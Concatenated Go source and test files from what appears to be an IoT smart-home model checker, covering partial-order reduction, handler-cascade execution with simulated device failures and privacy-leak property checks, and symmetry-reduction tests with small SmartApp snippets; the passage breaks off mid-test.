		tried.set(ck)
		set, depOfSet, ok := p.closeSet(ck, qc, present, nf > 0)
		if !ok {
			continue
		}
		if nf > 0 && faultThreat.intersects(depOfSet) {
			continue // a delivery could enable a dispatch dependent on the set
		}
		n, first := 0, -1
		for i, c := range qc {
			if set.has(c) {
				n++
				if first < 0 {
					first = i
				}
			}
		}
		if n >= len(qc) {
			continue // the closure swallowed the whole queue
		}
		if bestLen < 0 || n < bestLen || (n == bestLen && first < bestFirst) {
			bestLen, bestFirst, bestSet = n, first, set
		}
	}
	if bestLen < 0 {
		return nil
	}
	out := make([]int, 0, bestLen)
	for i, c := range qc {
		if bestSet.has(c) {
			out = append(out, i)
		}
	}
	return out
}

// closeSet grows {seed} to a dependence-closed set of pure classes over
// the classes present in the queue, then verifies the persistence side
// conditions. It reports ok=false when the closure pulls in an impure
// (or, under active fault injection, device-reading) class or when a
// class spawnable by the remaining dispatches is dependent on the set.
// The returned depOfSet lets the caller check further threats (fault
// deliveries) against the closed set.
func (p *porData) closeSet(seed int32, qc []int32, present porBits, faultsActive bool) (porBits, porBits, bool) {
	set := p.newBits()
	set.set(seed)
	depOfSet := p.newBits()
	copy(depOfSet, p.dep[seed])
	for changed := true; changed; {
		changed = false
		for _, c := range qc {
			if set.has(c) || !depOfSet.has(c) {
				continue
			}
			if !p.pure[c] {
				return nil, nil, false // a dependent pending dispatch is visible/impure
			}
			if faultsActive && !p.readFree[c] {
				return nil, nil, false
			}
			set.set(c)
			depOfSet.orInto(p.dep[c])
			changed = true
		}
	}
	// Spawn threat: classes the remaining dispatches can transitively
	// enqueue must all be independent of the set — otherwise a sequence
	// of non-set transitions could enable a dependent dispatch before
	// the set executes.
	for _, c := range qc {
		if set.has(c) {
			continue
		}
		if p.spawnClo[c].intersects(depOfSet) {
			return nil, nil, false
		}
	}
	return set, depOfSet, true
}
