package model

import (
	"fmt"

	"iotsan/internal/checker"
	"iotsan/internal/ir"
)

// System adapts the model to the checker's transition-system interface.
//
// The adapter satisfies the checker's concurrency contract: a Model is
// immutable after New (subscriptions, the external event space, and the
// device registry are all resolved at construction), and Expand/Inspect
// mutate only executor-local data and fresh clones of the argument
// state. The parallel checker strategy may therefore call Expand and
// Inspect concurrently on distinct states.
func (m *Model) System() checker.System { return sysAdapter{m} }

type sysAdapter struct{ m *Model }

func (a sysAdapter) Initial() checker.State { return a.m.Initial() }

func (a sysAdapter) Expand(s checker.State) []checker.Transition {
	return a.m.Expand(s.(*State))
}

func (a sysAdapter) Inspect(s checker.State) []checker.Violation {
	return a.m.Inspect(s.(*State))
}

// Inspect evaluates the compiled safe-physical-state invariants on a
// state (§8 "Safety Properties").
func (m *Model) Inspect(s *State) []checker.Violation {
	if len(m.Opts.Invariants) == 0 {
		return nil
	}
	v := &View{M: m, S: s}
	var out []checker.Violation
	for _, inv := range m.Opts.Invariants {
		if !inv.Holds(v) {
			out = append(out, checker.Violation{Property: inv.ID, Detail: inv.Description})
		}
	}
	return out
}

// Expand returns the successor transitions of a state: the
// non-deterministic choice of the next external physical event
// (Algorithm 1 line 2), crossed with failure scenarios when enabled; in
// the concurrent design, also the choice of which pending handler
// invocation to dispatch next.
func (m *Model) Expand(s *State) []checker.Transition {
	var out []checker.Transition

	if m.Opts.Design == Concurrent {
		// Interleaving choices: dispatch any pending handler invocation.
		for i := range s.Queue {
			out = append(out, m.dispatchPending(s, i))
		}
	}

	if s.EventsUsed >= m.Opts.MaxEvents {
		return out
	}

	fms := []failMode{failNone}
	if m.Opts.Failures {
		fms = []failMode{failNone, failSensorOff, failSensorComm, failActuators}
	}

	for _, ev := range m.external {
		if ev.Kind == EvDevice {
			// Skip non-events: the generated value equals the current one.
			if s.Devices[ev.Dev].Attrs[ev.AttrIdx] == ev.Val {
				continue
			}
		}
		if ev.Kind == EvMode && s.Mode == uint8(ev.Val) {
			continue
		}
		for _, fm := range fms {
			if ev.Kind != EvDevice && (fm == failSensorOff || fm == failSensorComm) {
				continue // sensor failures apply to sensed events only
			}
			out = append(out, m.applyExternal(s, ev, fm))
		}
	}

	// Scheduled timers are external choices too: they may fire at any
	// point between other events.
	for ai := range s.Apps {
		for _, t := range s.Apps[ai].Timers {
			ev := ExtEvent{Kind: EvTimer, AppIdx: ai, Handler: t.Handler,
				Label: fmt.Sprintf("timer: %s.%s", m.Apps[ai].App.Name, t.Handler)}
			for _, fm := range fms {
				if fm == failSensorOff || fm == failSensorComm {
					continue
				}
				out = append(out, m.applyExternal(s, ev, fm))
			}
		}
	}
	return out
}

// applyExternal executes one external event choice, producing the
// successor state. In the sequential design the full cascade runs to
// quiescence inside this transition (Algorithm 1 lines 3-6).
func (m *Model) applyExternal(s *State, ev ExtEvent, fm failMode) checker.Transition {
	ns := s.Clone()
	ns.EventsUsed++
	ns.Time = int64(ns.EventsUsed) * 60
	ns.Cmds = nil // fresh cascade: command log resets per external event

	x := m.newExecutor(ns, fm)
	label := ev.Label
	if fm != failNone {
		label += " [" + fm.String() + "]"
	}

	switch ev.Kind {
	case EvDevice:
		x.sensorUpdate(ev.Dev, ev.AttrIdx, ev.Val)
	case EvTouch:
		x.deliverTouch(ev.AppIdx)
	case EvSun:
		phase := "sunrise"
		if ev.Val == 1 {
			phase = "sunset"
		}
		x.enqueue(cyberEvent{Source: srcSun, Attr: "sun",
			Value: ir.StrV(phase), VStr: phase, Label: "location"})
	case EvTimer:
		removeTimer(&ns.Apps[ev.AppIdx], ev.Handler)
		x.fireTimer(ev.AppIdx, ev.Handler)
	case EvMode:
		x.SetLocationMode(m.Cfg.Modes[ev.Val])
	}

	if m.Opts.Design == Sequential {
		x.drain()
	} else if ev.Kind != EvDevice || fm != failSensorOff {
		x.finishCascade()
	}

	return checker.Transition{Label: label, Steps: x.steps, Next: ns, Violations: x.viols}
}

// deliverTouch routes an app-touch event to the app's touch handlers.
func (x *executor) deliverTouch(appIdx int) {
	ev := cyberEvent{Source: srcApp, Attr: "touch",
		Value: ir.StrV("touched"), VStr: "touched", Label: "app"}
	for si, sub := range x.m.subs {
		if sub.Source != srcApp || sub.AppIdx != appIdx {
			continue
		}
		if x.s.Apps[sub.AppIdx].Unsubscribed {
			continue
		}
		if x.m.Opts.Design == Concurrent {
			x.s.Queue = append(x.s.Queue, Pending{SubIdx: si, Source: srcApp, Raw: "touched"})
			continue
		}
		x.runHandler(sub, ev)
	}
}

func removeTimer(as *AppState, handler string) {
	for i := range as.Timers {
		if as.Timers[i].Handler == handler {
			as.Timers = append(as.Timers[:i], as.Timers[i+1:]...)
			return
		}
	}
}

// dispatchPending runs one queued handler invocation (concurrent design:
// handler-level interleaving, §8 "Concurrency Model").
func (m *Model) dispatchPending(s *State, i int) checker.Transition {
	ns := s.Clone()
	p := ns.Queue[i]
	ns.Queue = append(ns.Queue[:i], ns.Queue[i+1:]...)

	sub := m.subs[p.SubIdx]
	x := m.newExecutor(ns, failNone)
	ev := m.pendingEvent(p)
	x.runHandler(sub, ev)

	return checker.Transition{
		Label: fmt.Sprintf("dispatch %s/%s to %s.%s",
			ev.Attr, ev.VStr, m.Apps[sub.AppIdx].App.Name, sub.Handler),
		Steps: x.steps, Next: ns, Violations: x.viols,
	}
}

// pendingEvent reconstructs the cyber event payload of a queued
// invocation.
func (m *Model) pendingEvent(p Pending) cyberEvent {
	ev := cyberEvent{Source: p.Source, VStr: p.Raw, Label: "event"}
	sub := m.subs[p.SubIdx]
	ev.Attr = sub.Attr
	if p.Source >= 0 {
		d := m.Devices[p.Source]
		ev.Label = d.Label
		if ai := d.AttrIndex(sub.Attr); ai >= 0 && d.Attrs[ai].Numeric {
			ev.Value = ir.IntV(int64(p.Val))
			return ev
		}
	}
	ev.Value = ir.StrV(p.Raw)
	return ev
}
