package model

import (
	"fmt"

	"iotsan/internal/checker"
	"iotsan/internal/device"
	"iotsan/internal/eval"
	"iotsan/internal/ir"
)

// Property identifiers raised by the execution engine (the event-driven
// properties of §8; the state invariants live in the props package).
const (
	PropConflicting   = "conflicting-commands"
	PropRepeated      = "repeated-commands"
	PropLeakNetwork   = "leak-network-interface"
	PropLeakSMS       = "leak-sms-recipient"
	PropSuspUnsub     = "suspicious-unsubscribe"
	PropSuspFakeEvent = "suspicious-fake-event"
	PropRobustness    = "failure-notification"
	PropExecError     = "handler-exec-error"
)

// failMode enumerates the device/communication failure scenarios the
// model explores per external event (§8 "To model natural or induced
// device/communication failures ...").
type failMode int

const (
	failNone       failMode = iota
	failSensorOff           // the sensor is offline: the physical event is not sensed
	failSensorComm          // the sensor senses it but the report is lost
	failActuators           // actuator commands during the cascade are lost
)

func (f failMode) String() string {
	switch f {
	case failSensorOff:
		return "sensor offline"
	case failSensorComm:
		return "sensor report lost"
	case failActuators:
		return "actuator command lost"
	}
	return "no failure"
}

// cyberEvent is an event propagating inside the platform.
type cyberEvent struct {
	Source int // device index, or src* pseudo-source
	Attr   string
	Value  ir.Value
	VStr   string // string form used for subscription filters
	Label  string
}

// executor runs handler cascades against a state; it implements
// eval.Host for the app whose handler is currently executing.
type executor struct {
	m *Model
	s *State

	queue    []cyberEvent
	steps    []string
	viols    []checker.Violation
	curApp   int
	failMode failMode

	dispatches int
	// notified marks apps that alerted the user this cascade (for the
	// robustness property).
	notified map[int]bool
	// dropped marks apps whose actuator commands were lost.
	dropped map[int]bool
}

func (m *Model) newExecutor(s *State, fm failMode) *executor {
	return &executor{
		m: m, s: s, failMode: fm,
		notified: map[int]bool{}, dropped: map[int]bool{},
	}
}

func (x *executor) violate(prop, detail string) {
	x.viols = append(x.viols, checker.Violation{Property: prop, Detail: detail})
}

func (x *executor) stepf(format string, args ...any) {
	x.steps = append(x.steps, fmt.Sprintf(format, args...))
}

// ---- sensor/actuator state updates (Algorithm 1) ----

// sensorUpdate applies an external physical event to a sensor device
// (Algorithm 1, sensor_state_update) and enqueues the notification.
func (x *executor) sensorUpdate(dev int, attrIdx int, val int16) {
	d := x.m.Devices[dev]
	a := d.Attrs[attrIdx]
	if x.failMode == failSensorOff {
		x.stepf("%s offline: physical event not sensed", d.Label)
		return
	}
	if x.s.Devices[dev].Attrs[attrIdx] == val {
		return // not a state change
	}
	x.s.Devices[dev].Attrs[attrIdx] = val
	vstr := encodedString(a, val)
	x.stepf("%s.%s = %s", d.Label, a.Name, vstr)
	if x.failMode == failSensorComm {
		x.stepf("communication failure: state change event from %s lost", d.Label)
		return
	}
	x.enqueue(cyberEvent{
		Source: dev, Attr: a.Name, Value: decodeAttr(a, val), VStr: vstr,
		Label: d.Label,
	})
}

// actuatorUpdate applies a command result to an actuator (Algorithm 1,
// actuator_state_update): verify conflicting/repeated, update, notify.
func (x *executor) actuatorUpdate(dev int, cmd *device.Command, argVal int16) {
	d := x.m.Devices[dev]
	rec := CmdRec{Dev: dev, Cmd: cmd.Name, Arg: argVal, App: x.curApp,
		Attr: cmd.Attribute, Value: cmd.Value}

	if x.m.Opts.CheckConflicts {
		for _, prev := range x.s.Cmds {
			if prev.Dev != dev {
				continue
			}
			if prev.Cmd == rec.Cmd && prev.Arg == rec.Arg {
				x.violate(PropRepeated, fmt.Sprintf(
					"%s receives repeated %q commands (%s and %s)",
					d.Label, rec.Cmd, x.m.Apps[prev.App].App.Name, x.m.Apps[rec.App].App.Name))
				break
			}
		}
		for _, prev := range x.s.Cmds {
			if prev.Dev != dev || prev.Attr != rec.Attr {
				continue
			}
			if prev.Value != "" && rec.Value != "" && prev.Value != rec.Value {
				x.violate(PropConflicting, fmt.Sprintf(
					"%s receives conflicting commands %q and %q (%s vs %s)",
					d.Label, prev.Cmd, rec.Cmd, x.m.Apps[prev.App].App.Name, x.m.Apps[rec.App].App.Name))
				break
			}
		}
	}
	x.s.Cmds = append(x.s.Cmds, rec)

	if x.failMode == failActuators {
		x.dropped[x.curApp] = true
		x.stepf("command %s.%s() lost (device/communication failure)", d.Label, cmd.Name)
		return
	}

	ai := d.AttrIndex(cmd.Attribute)
	if ai < 0 {
		return
	}
	a := d.Attrs[ai]
	var nv int16
	if cmd.TakesArg {
		nv = argVal
	} else {
		nv = int16(indexOf(a.Values, cmd.Value))
		if nv < 0 {
			return
		}
	}
	if x.s.Devices[dev].Attrs[ai] == nv {
		return // no state change, no notification
	}
	x.s.Devices[dev].Attrs[ai] = nv
	vstr := encodedString(a, nv)
	x.stepf("%s.%s = %s", d.Label, a.Name, vstr)
	x.enqueue(cyberEvent{
		Source: dev, Attr: a.Name, Value: decodeAttr(a, nv), VStr: vstr,
		Label: d.Label,
	})
}

func (x *executor) enqueue(ev cyberEvent) {
	if x.m.Opts.Design == Concurrent {
		// Queue one pending invocation per matching subscription; the
		// checker interleaves them.
		for si, sub := range x.m.subs {
			if x.matches(sub, ev) {
				x.s.Queue = append(x.s.Queue, Pending{
					SubIdx: si, Source: ev.Source, Val: encodeEventVal(ev), Raw: ev.VStr,
				})
			}
		}
		return
	}
	x.queue = append(x.queue, ev)
}

func (x *executor) matches(sub resolvedSub, ev cyberEvent) bool {
	if x.s.Apps[sub.AppIdx].Unsubscribed {
		return false
	}
	if sub.Attr != ev.Attr {
		return false
	}
	switch {
	case sub.Source == ev.Source:
	case ev.Source == srcSynth && sub.Source >= 0:
		// Synthetic sendEvent events reach any subscriber of the
		// attribute (fake events impersonate devices).
	default:
		return false
	}
	return sub.Value == "" || sub.Value == ev.VStr
}

// drain dispatches pending events until quiescence (sequential design,
// Algorithm 1 lines 4-6). Invariants are inspected after every handler
// execution, not only at quiescence: a Spin never-claim steps with each
// intermediate state, so transient unsafe states (e.g. a siren pulsed on
// and immediately off by another app) are still caught.
func (x *executor) drain() {
	for len(x.queue) > 0 {
		if x.dispatches >= x.m.Opts.maxCascade() {
			x.stepf("cascade truncated after %d dispatches", x.dispatches)
			x.queue = nil
			return
		}
		ev := x.queue[0]
		x.queue = x.queue[1:]
		x.dispatches++
		for si, sub := range x.m.subs {
			_ = si
			if x.matches(sub, ev) {
				x.runHandler(sub, ev)
				x.inspectIntermediate()
			}
		}
	}
	x.finishCascade()
}

// inspectIntermediate evaluates the invariants on the current
// (mid-cascade) state.
func (x *executor) inspectIntermediate() {
	if !x.m.Opts.InspectCascade || len(x.m.Opts.Invariants) == 0 {
		return
	}
	x.viols = append(x.viols, x.m.Inspect(x.s)...)
}

// finishCascade evaluates the robustness property at the end of a
// cascade: an app whose command was lost must have notified the user.
func (x *executor) finishCascade() {
	if x.failMode != failActuators || !x.m.Opts.CheckRobustness {
		return
	}
	for app := range x.dropped {
		if !x.notified[app] {
			x.violate(PropRobustness, fmt.Sprintf(
				"%s does not verify actuator commands and sends no SMS/Push on failure",
				x.m.Apps[app].App.Name))
		}
	}
}

// runHandler executes one subscribed handler for an event.
func (x *executor) runHandler(sub resolvedSub, ev cyberEvent) {
	app := x.m.Apps[sub.AppIdx]
	prev := x.curApp
	x.curApp = sub.AppIdx
	defer func() { x.curApp = prev }()

	x.stepf("%s.%s(evt: %s/%s)", app.App.Name, sub.Handler, ev.Attr, ev.VStr)

	e := &eval.Evaluator{App: app.App, Bindings: app.Bindings, Host: x}
	evt := &eval.Event{Device: ev.Source, Name: ev.Attr, Value: ev.Value, DisplayName: ev.Label}
	if ev.Source < 0 {
		evt.Device = -1
	}
	if err := e.CallHandler(sub.Handler, evt); err != nil {
		x.violate(PropExecError, err.Error())
	}
}

// fireTimer runs a scheduled callback (EvTimer external choice).
func (x *executor) fireTimer(appIdx int, handler string) {
	app := x.m.Apps[appIdx]
	prev := x.curApp
	x.curApp = appIdx
	defer func() { x.curApp = prev }()

	x.stepf("timer fires: %s.%s()", app.App.Name, handler)
	e := &eval.Evaluator{App: app.App, Bindings: app.Bindings, Host: x}
	m := app.App.Methods[handler]
	if m == nil {
		return
	}
	var err error
	if len(m.Params) > 0 {
		err = e.CallHandler(handler, &eval.Event{Device: -1, Name: "timer", Value: ir.StrV("fired")})
	} else {
		_, err = e.CallMethodByName(handler, nil)
	}
	if err != nil {
		x.violate(PropExecError, err.Error())
	}
}

// ---- eval.Host implementation ----

func (x *executor) DeviceAttr(dev int, attr string) (ir.Value, bool) {
	return x.m.AttrValue(x.s, dev, attr)
}

func (x *executor) DeviceLabel(dev int) string { return x.m.Devices[dev].Label }

func (x *executor) DeviceCommand(dev int, cmd string, args []ir.Value) {
	d := x.m.Devices[dev]
	_, c := d.Model.FindCommand(cmd)
	if c == nil {
		x.stepf("%s does not support command %q (ignored)", d.Label, cmd)
		return
	}
	var arg int16
	if c.TakesArg && len(args) > 0 {
		arg = int16(args[0].AsInt())
	}
	x.stepf("%s sends %s.%s()", x.m.Apps[x.curApp].App.Name, d.Label, cmd)
	x.actuatorUpdate(dev, c, arg)
}

func (x *executor) LocationMode() string {
	return x.m.Cfg.Modes[x.s.Mode]
}

func (x *executor) SetLocationMode(mode string) {
	mi := x.m.ModeIndex(mode)
	if mi < 0 {
		x.stepf("unknown location mode %q (ignored)", mode)
		return
	}
	if x.s.Mode == uint8(mi) {
		return
	}
	x.s.Mode = uint8(mi)
	x.stepf("location.mode = %s", mode)
	x.enqueue(cyberEvent{Source: srcLocation, Attr: "mode",
		Value: ir.StrV(mode), VStr: mode, Label: "location"})
}

func (x *executor) Modes() []string { return x.m.Cfg.Modes }

func (x *executor) Now() int64 { return x.s.Time }

func (x *executor) AppState() map[string]ir.Value {
	as := &x.s.Apps[x.curApp]
	if as.KV == nil {
		as.KV = map[string]ir.Value{}
	}
	return as.KV
}

func (x *executor) SendSMS(phone, msg string) {
	app := x.m.Apps[x.curApp]
	x.notified[x.curApp] = true
	x.stepf("%s sends SMS to %q", app.App.Name, phone)
	if !x.m.Opts.CheckLeakage {
		return
	}
	if !x.recipientConfigured(phone) {
		x.violate(PropLeakSMS, fmt.Sprintf(
			"%s sends SMS to %q, which is not a configured recipient", app.App.Name, phone))
	}
}

// recipientConfigured checks the SMS recipient against the system's
// phone numbers and the app's own phone-input bindings (§3: recipients
// must match the configured phone numbers or contacts).
func (x *executor) recipientConfigured(phone string) bool {
	for _, p := range x.m.Cfg.Phones {
		if p == phone {
			return true
		}
	}
	app := x.m.Apps[x.curApp]
	for _, in := range app.App.Inputs {
		if in.Kind != ir.InputPhone && in.Kind != ir.InputContact && in.Kind != ir.InputText {
			continue
		}
		if b, ok := app.Bindings[in.Name]; ok && b.Kind == ir.VStr && b.S == phone {
			return true
		}
	}
	return false
}

func (x *executor) SendPush(msg string) {
	x.notified[x.curApp] = true
	x.stepf("%s sends push notification", x.m.Apps[x.curApp].App.Name)
}

func (x *executor) SendNotificationToContacts(msg string) {
	x.notified[x.curApp] = true
	x.stepf("%s notifies contacts", x.m.Apps[x.curApp].App.Name)
}

func (x *executor) HTTPRequest(method, url string) {
	app := x.m.Apps[x.curApp]
	x.stepf("%s issues %s %s", app.App.Name, method, url)
	if x.m.Opts.CheckLeakage {
		x.violate(PropLeakNetwork, fmt.Sprintf(
			"%s sends data via network interface (%s %s)", app.App.Name, method, url))
	}
}

func (x *executor) Unsubscribe() {
	app := x.m.Apps[x.curApp]
	x.s.Apps[x.curApp].Unsubscribed = true
	x.stepf("%s executes unsubscribe()", app.App.Name)
	if x.m.Opts.CheckLeakage {
		x.violate(PropSuspUnsub, fmt.Sprintf(
			"%s executes the security-sensitive command unsubscribe at run time", app.App.Name))
	}
}

func (x *executor) SendEvent(name, value string) {
	app := x.m.Apps[x.curApp]
	x.stepf("%s raises synthetic event %s=%s", app.App.Name, name, value)
	if x.m.Opts.CheckLeakage && attributeExists(name) {
		x.violate(PropSuspFakeEvent, fmt.Sprintf(
			"%s generates a fake %q event (value %q) with no physical cause",
			app.App.Name, name, value))
	}
	x.enqueue(cyberEvent{Source: srcSynth, Attr: name,
		Value: ir.StrV(value), VStr: value, Label: app.App.Name})
}

func attributeExists(name string) bool {
	for _, cn := range device.Capabilities() {
		if device.CapabilityByName(cn).Attribute(name) != nil {
			return true
		}
	}
	return false
}

func (x *executor) Schedule(handler string, delaySeconds int64) {
	as := &x.s.Apps[x.curApp]
	for i := range as.Timers {
		if as.Timers[i].Handler == handler {
			as.Timers[i].Delay = delaySeconds // runIn overwrites by default
			return
		}
	}
	as.Timers = append(as.Timers, Timer{Handler: handler, Delay: delaySeconds})
	x.stepf("%s schedules %s in %ds", x.m.Apps[x.curApp].App.Name, handler, delaySeconds)
}

func (x *executor) Unschedule() {
	x.s.Apps[x.curApp].Timers = nil
}

func (x *executor) Log(level, msg string) {
	// Log output is not part of the model state; retained in trails for
	// debuggability at verbose levels only.
}

// ---- helpers ----

func indexOf(values []string, v string) int {
	for i, x := range values {
		if x == v {
			return i
		}
	}
	return -1
}

func decodeAttr(a device.Attribute, raw int16) ir.Value {
	if a.Numeric {
		return ir.IntV(int64(raw))
	}
	if int(raw) < len(a.Values) {
		return ir.StrV(a.Values[raw])
	}
	return ir.NullV()
}

func encodedString(a device.Attribute, raw int16) string {
	return decodeAttr(a, raw).String()
}

func encodeEventVal(ev cyberEvent) int16 {
	if ev.Value.IsNumeric() {
		return int16(ev.Value.AsInt())
	}
	return 0
}
