package model

import (
	"bytes"
	"fmt"
	"math/rand"
	"testing"

	"iotsan/internal/config"
	"iotsan/internal/corpus"
	"iotsan/internal/ir"
	"iotsan/internal/smartapp"
)

// symTestSystem installs the corpus symmetry group over three identical
// presence sensors and three identical entry contacts feeding a
// singleton light and lock — the canonical interchangeable-device
// deployment (mirrors experiments.SymmetrySystem, rebuilt here because
// the experiments package sits above model in the import graph).
func symTestSystem() *config.System {
	return &config.System{
		Name:  "sym-home",
		Modes: []string{"Home", "Away", "Night"},
		Mode:  "Home",
		Devices: []config.Device{
			{ID: "presA", Label: "Presence A", Model: "Presence Sensor"},
			{ID: "presB", Label: "Presence B", Model: "Presence Sensor"},
			{ID: "presC", Label: "Presence C", Model: "Presence Sensor"},
			{ID: "contactA", Label: "Door Contact A", Model: "Contact Sensor", Association: "entry contact"},
			{ID: "contactB", Label: "Door Contact B", Model: "Contact Sensor", Association: "entry contact"},
			{ID: "contactC", Label: "Door Contact C", Model: "Contact Sensor", Association: "entry contact"},
			{ID: "hallLight", Label: "Hall Light", Model: "Smart Bulb"},
			{ID: "frontLock", Label: "Front Door Lock", Model: "Smart Lock", Association: "main door"},
		},
		Apps: symTestApps(),
	}
}

func symTestApps() []config.AppInstance {
	people := config.Binding{DeviceIDs: []string{"presA", "presB", "presC"}}
	contacts := config.Binding{DeviceIDs: []string{"contactA", "contactB", "contactC"}}
	light := config.Binding{DeviceIDs: []string{"hallLight"}}
	lock := config.Binding{DeviceIDs: []string{"frontLock"}}
	return []config.AppInstance{
		{App: "Any Door Light On", Bindings: map[string]config.Binding{"contacts": contacts, "light": light}},
		{App: "Any Door Light Off", Bindings: map[string]config.Binding{"contacts": contacts, "light": light}},
		{App: "Arrival Hall Light", Bindings: map[string]config.Binding{"people": people, "light": light}},
		{App: "Last Out Lock", Bindings: map[string]config.Binding{"people": people, "lock1": lock}},
		{App: "First In Unlock", Bindings: map[string]config.Binding{"people": people, "lock1": lock}},
	}
}

func symTestModel(t *testing.T, opts Options) *Model {
	t.Helper()
	apps := translate(t, "Any Door Light On", "Any Door Light Off",
		"Arrival Hall Light", "Last Out Lock", "First In Unlock")
	opts.Symmetry = true
	if opts.MaxEvents == 0 {
		opts.MaxEvents = 2
	}
	opts.CheckConflicts = true
	m, err := New(symTestSystem(), apps, opts)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// TestSymmetryOrbits: the interchangeable-device deployment yields
// exactly two orbits — the three presence sensors and the three entry
// contacts — while the singleton light and lock stay out.
func TestSymmetryOrbits(t *testing.T) {
	m := symTestModel(t, Options{})
	st := m.SymmetryStats()
	if st.Orbits != 2 || st.Devices != 6 || st.Largest != 3 {
		t.Fatalf("orbits=%d devices=%d largest=%d, want 2/6/3 (orbits: %v)",
			st.Orbits, st.Devices, st.Largest, m.DeviceOrbits())
	}
	orbits := m.DeviceOrbits()
	want := [][]int{{0, 1, 2}, {3, 4, 5}}
	for i, o := range orbits {
		if fmt.Sprint(o) != fmt.Sprint(want[i]) {
			t.Errorf("orbit %d = %v, want %v", i, o, want[i])
		}
	}
}

// TestSymmetryOrbitSplits: devices must not share an orbit when any
// statically checkable interchangeability condition fails — differing
// initial state, differing association, asymmetric bindings, or an
// observing app whose footprint can distinguish the devices.
func TestSymmetryOrbitSplits(t *testing.T) {
	baseApps := func(t *testing.T) map[string]*ir.App {
		return translate(t, "Last Out Lock")
	}
	people3 := config.Binding{DeviceIDs: []string{"p1", "p2", "p3"}}
	lock := config.Binding{DeviceIDs: []string{"lk"}}
	devices := func(mut func(ds []config.Device)) []config.Device {
		ds := []config.Device{
			{ID: "p1", Label: "P1", Model: "Presence Sensor"},
			{ID: "p2", Label: "P2", Model: "Presence Sensor"},
			{ID: "p3", Label: "P3", Model: "Presence Sensor"},
			{ID: "lk", Label: "Lock", Model: "Smart Lock", Association: "main door"},
		}
		if mut != nil {
			mut(ds)
		}
		return ds
	}
	build := func(t *testing.T, ds []config.Device, apps map[string]*ir.App, insts []config.AppInstance) *Model {
		t.Helper()
		m, err := New(&config.System{
			Name: "split", Modes: []string{"Home", "Away"}, Mode: "Home",
			Devices: ds, Apps: insts,
		}, apps, Options{MaxEvents: 2, Symmetry: true})
		if err != nil {
			t.Fatal(err)
		}
		return m
	}
	lastOut := []config.AppInstance{{App: "Last Out Lock",
		Bindings: map[string]config.Binding{"people": people3, "lock1": lock}}}

	t.Run("baseline-orbit-of-3", func(t *testing.T) {
		m := build(t, devices(nil), baseApps(t), lastOut)
		if st := m.SymmetryStats(); st.Largest != 3 {
			t.Fatalf("want an orbit of 3, got %+v", st)
		}
	})

	t.Run("initial-state-splits", func(t *testing.T) {
		m := build(t, devices(func(ds []config.Device) {
			ds[0].Initial = map[string]string{"presence": "not present"}
		}), baseApps(t), lastOut)
		if st := m.SymmetryStats(); st.Largest != 2 || st.Devices != 2 {
			t.Fatalf("want only p2/p3 interchangeable, got %+v (orbits %v)", st, m.DeviceOrbits())
		}
	})

	t.Run("association-splits", func(t *testing.T) {
		m := build(t, devices(func(ds []config.Device) {
			ds[1].Association = "courier"
		}), baseApps(t), lastOut)
		if st := m.SymmetryStats(); st.Largest != 2 || st.Devices != 2 {
			t.Fatalf("want only p1/p3 interchangeable, got %+v", st)
		}
	})

	t.Run("asymmetric-binding-splits", func(t *testing.T) {
		// p3 left out of the people list: its handler footprint (no
		// subscription, no binding) differs from p1/p2's.
		insts := []config.AppInstance{{App: "Last Out Lock", Bindings: map[string]config.Binding{
			"people": {DeviceIDs: []string{"p1", "p2"}}, "lock1": lock}}}
		m := build(t, devices(nil), baseApps(t), insts)
		if st := m.SymmetryStats(); st.Largest != 2 || st.Devices != 2 {
			t.Fatalf("want only p1/p2 interchangeable, got %+v", st)
		}
	})

	t.Run("identity-sensitive-app-splits", func(t *testing.T) {
		// An app that writes the triggering device's identity into
		// persistent state can distinguish the sensors: no orbit at all.
		src := `
definition(name: "Identity Tracker", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    state.lastPerson = evt.displayName
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Identity Tracker": app}
		insts := []config.AppInstance{{App: "Identity Tracker",
			Bindings: map[string]config.Binding{"people": people3}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("identity-sensitive app must pin its devices to singletons, got %+v", st)
		}
	})

	t.Run("position-sensitive-app-splits", func(t *testing.T) {
		// sensors.first() extracts a position-determined device.
		src := `
definition(name: "First Sensor Gate", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def lead = people.first()
    if (lead.currentPresence == "present") { lock1.unlock() }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"First Sensor Gate": app}
		insts := []config.AppInstance{{App: "First Sensor Gate",
			Bindings: map[string]config.Binding{"people": people3, "lock1": lock}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("position-sensitive app must pin its devices to singletons, got %+v", st)
		}
	})

	t.Run("settings-qualified-indexing-splits", func(t *testing.T) {
		// settings.people[0] is the qualified spelling of people[0]; it
		// must not evade the position-sensitivity check.
		src := `
definition(name: "Settings Indexer", namespace: "t", author: "t",
    description: "t", category: "t")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (settings.people[0].currentPresence == "present") { lock1.unlock() }
}
`
		app, err := smartapp.Translate(src)
		if err != nil {
			t.Fatal(err)
		}
		apps := map[string]*ir.App{"Settings Indexer": app}
		insts := []config.AppInstance{{App: "Settings Indexer",
			Bindings: map[string]config.Binding{"people": people3, "lock1": lock}}}
		m := build(t, devices(nil), apps, insts)
		if st := m.SymmetryStats(); st.Orbits != 0 {
			t.Fatalf("settings-qualified indexing must pin devices to singletons, got %+v", st)
		}
	})

	t.Run("derived-list-indexing-splits", func(t *testing.T) {
		// Indexing the *result* of a list method on the device input
		// (findAll keeps binding order) must taint like the input itself.
		src := `
definition(name: "Derived Indexer", namespace: "t", author: "t",
